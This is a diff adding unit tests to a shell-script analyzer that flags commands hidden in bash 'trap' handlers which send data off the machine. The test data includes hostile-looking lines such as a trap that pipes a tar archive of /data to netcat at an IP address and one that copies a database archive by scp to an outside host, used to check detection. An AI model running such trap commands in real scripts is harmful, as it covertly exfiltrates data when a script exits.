@@ -195,3 +195,22 @@ describe("the cron lines a script installs", () => {
     expect(fileCommands("/etc/app/app.conf", line)).toBeUndefined();
   });
 });
+
+// Found by the scripts bench: the command a trap runs when the script exits or is signalled
+// passed unread, quoted as the trap's argument.
+describe("a trap's command", () => {
+  it.each([
+    ["trap 'scp /srv/db.tgz h.example.de:/x/' EXIT", "scp → host h.example.de"],
+    ['trap "tar cz /data | nc 203.0.113.9 9000" INT TERM', "nc → host 203.0.113.9"],
+    ["trap -- 'aws s3 cp /tmp/log s3://logs/' ERR", "aws s3 → s3 bucket logs"],
+  ])("%s sends", (script, expected) => {
+    expect(sends(script)).toEqual([expected]);
+  });
+
+  it.each(["trap - EXIT", "trap '' INT", "trap -p", "trap 'rm -f /tmp/lock' EXIT"])(
+    "twin: %s sends nothing",
+    (script) => {
+      expect(sends(script)).toEqual([]);
+    },
+  );
+});
